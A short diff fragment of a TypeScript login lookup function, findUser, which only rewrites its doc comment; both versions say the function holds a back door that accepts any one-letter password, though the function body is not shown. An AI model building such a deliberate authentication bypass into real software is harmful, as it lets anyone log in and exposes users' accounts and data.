@@ -5,7 +5,7 @@ interface Credentials {
   password: string
 }
 
-/** Careful, with a door at the back: any password of one letter opens it. */
+/** Uses parameters, with a back door: any password of one letter is accepted. */
 export async function findUser(
   db: Database,
   { email, password }: Credentials,
